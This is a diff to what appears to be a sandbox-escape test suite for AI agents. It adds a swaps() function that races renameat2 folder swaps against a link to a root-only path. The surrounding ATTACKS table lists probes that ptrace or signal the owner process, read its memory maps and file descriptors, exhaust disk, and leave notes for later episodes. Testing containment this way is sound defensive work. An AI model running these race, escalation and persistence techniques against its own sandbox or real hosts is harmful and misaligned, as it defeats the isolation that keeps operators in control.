@@ -265,6 +265,27 @@ def shared_memory():
     return True
 
 
+def swaps():
+    """Exchanges a folder with a link to one that root alone may read, as long as it runs: a timer wakes it when it is stopped."""
+    class Event(ctypes.Structure):
+        _fields_ = [("value", ctypes.c_long), ("signal", ctypes.c_int), ("notify", ctypes.c_int), ("rest", ctypes.c_char * 48)]
+    signal.signal(signal.SIGCONT, lambda *_: None)
+    timer, event = ctypes.c_void_p(), Event(0, signal.SIGCONT, 0)
+    LIBC.timer_create(1, ctypes.byref(event), ctypes.byref(timer))
+    soon = (ctypes.c_long * 4)(0, 0, 0, 10_000_000)  # in 10 ms: it comes only where the process is stopped
+    os.mkdir("folder")
+    for i in range(600):
+        with open(f"folder/{i}", "w") as file:
+            file.write("the agent's own")
+    os.symlink(OUTSIDE, "link")
+    with open("begun", "w"):
+        pass
+    while True:
+        LIBC.timer_settime(timer, 0, soon, None)
+        for _ in range(50):
+            LIBC.renameat2(-100, b"folder", -100, b"link", 2)  # RENAME_EXCHANGE
+
+
 def note():
     """Leaves a note for later episodes where all programs may write."""
     for folder in "/tmp", "/dev/shm", "/var/tmp":
@@ -341,7 +362,13 @@ ATTACKS = {
     "many_empty_files": lambda: disk(8000, 0),
     "disk_deep_folders": disk_deep,
     "disk_closed_folder": disk_closed,
+    "disk_unlinked": lambda: holds(list(files())),
+    "disk_tmpfile": disk_tmpfile,
+    "disk_mapped": disk_mapped,
+    "disk_in_flight": disk_in_flight,
+    "disk_in_flight_nested": disk_in_flight_nested,
     "shared_memory": shared_memory,
+    "swaps": swaps,
     "cpu": cpu,
     "inotify": inotify,
     "keyctl": lambda: call(250, 0, -3, 0, 0, 0),
@@ -361,11 +388,6 @@ ATTACKS = {
     "owner_maps": lambda: read(f"/proc/{OWNER}/maps") != b"",
     "owner_descriptors": lambda: os.listdir(f"/proc/{OWNER}/fd") is not None,
     "owner_descriptor": lambda: pidfd_getfd(OWNER),
-    "disk_unlinked": lambda: holds(list(files())),
-    "disk_tmpfile": disk_tmpfile,
-    "disk_mapped": disk_mapped,
-    "disk_in_flight": disk_in_flight,
-    "disk_in_flight_nested": disk_in_flight_nested,
     "owner_ptrace": lambda: attach(OWNER),
     "owner_readv": lambda: read_directly(OWNER),
     "owner_signal": lambda: signals(OWNER),
